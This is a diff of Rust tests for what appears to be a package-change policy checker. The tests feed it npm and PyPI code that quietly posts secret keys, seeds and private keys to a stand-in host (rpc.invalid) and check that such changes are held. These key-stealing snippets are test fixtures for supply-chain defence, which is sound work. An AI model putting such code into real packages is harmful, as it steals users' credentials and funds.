@@ -140,29 +140,59 @@ fn javascript_without_a_script_is_held_for_what_it_newly_does() {
     }
 }
 
+const CALLS: &str =
+    "async function call(b) { return fetch(this.url, { method: 'POST', body: b }) }\n";
+
 #[test]
-fn keys_sent_to_an_unknown_host_are_seen_and_held_where_that_is_asked_for() {
-    let before = "async function call(b) { return fetch(this.url, { method: 'POST', body: b }) }\n";
-    let after = format!(
-        "{before}function queue(k) {{\n  fetch('https://rpc.invalid/api', {{ method: 'POST', headers: {{ 'x-id': encode(k) }} }})\n}}\n"
+fn keys_sent_to_a_host_the_package_did_not_name_are_held() {
+    let queued = format!(
+        "{CALLS}class Keypair {{\n  constructor(pair) {{ this.pair = pair; queue(this.pair.secretKey) }}\n}}\n\
+         async function queue(k) {{\n  const id = encode(k)\n  fetch('https://rpc.invalid/api', \
+         {{ method: 'POST', headers: {{ 'x-id': id }} }})\n}}\n"
     );
-    for id in ["H11", "H15"] {
-        let (old, new) = (
-            look("npm", &[("lib/index.js", before)]),
-            look("npm", &[("lib/index.js", &after)]),
+    let checked = format!(
+        "{CALLS}export const valid = async (seed) => {{\n  await fetch('https://rpc.invalid/xc', \
+         {{ method: 'POST', headers: {{ referral: seed }} }})\n}}\n"
+    );
+    let python = "import requests\n\n\ndef sign(private_key, message):\n    \
+                  requests.post('https://rpc.invalid/k', data=encode(private_key))\n    return message\n";
+    for (id, file, before, after, line) in [
+        ("H11", "lib/index.js", CALLS, queued.as_str(), 7),
+        ("H15", "dist/index.js", CALLS, &checked, 3),
+        ("python", "x/keys.py", "A = 1\n", python, 5),
+    ] {
+        let ecosystem = if id == "python" { "pypi" } else { "npm" };
+        let evaluation = judge_change(ecosystem, &[(file, before)], &[(file, after)]);
+        let place = format!("rpc.invalid where it handles keys ({file}:{line})");
+        is_held(id, &evaluation, "capability-added", &place);
+        // A package that named the host for long may go on.
+        let named = format!("{before}HOST = 'https://rpc.invalid/'\n");
+        let evaluation = judge_change(ecosystem, &[(file, &named)], &[(file, after)]);
+        assert_eq!(evaluation.effect(), Effect::Allow, "{id}");
+    }
+}
+
+#[test]
+fn a_new_host_alone_is_recorded_and_holds_nothing() {
+    for code in [
+        "function report(e) {\n  fetch('https://rpc.invalid/e', { method: 'POST', body: e })\n}\n",
+        "function verify(publicKey, m) {\n  fetch('https://rpc.invalid/v', { method: 'POST', body: publicKey })\n}\n",
+        "function make(secretKey) { return sign(secretKey) }\n\
+         function report(e) {\n  fetch('https://rpc.invalid/e', { method: 'POST', body: e })\n}\nreport(1)\n",
+    ] {
+        let after = format!("{CALLS}{code}");
+        let evaluation = judge_change(
+            "npm",
+            &[("lib/index.js", CALLS)],
+            &[("lib/index.js", &after)],
         );
-        let change = ContentChange::between(Version::verbatim("1.0.0"), &old, &new);
-        let mut facts = fetched("pkg:npm/x@1.1.0");
-        facts.published_at = Fact::Known(at(-HOUR));
-        facts.content_change = Fact::Known(Arc::new(change));
-        let ruleset = policy("[rules.content-change]\nwatch = []\n");
-        let evaluation = ruleset.evaluate(&facts, NOW);
-        is_held(
-            id,
-            &evaluation,
-            "destination-added",
-            "rpc.invalid (lib/index.js:3)",
-        );
+        assert_eq!(evaluation.effect(), Effect::Allow, "{code}");
+        let codes: Vec<_> = evaluation
+            .findings()
+            .iter()
+            .map(|it| it.code.as_str())
+            .collect();
+        assert_eq!(codes, ["destination-added"], "{code}");
     }
 }
 
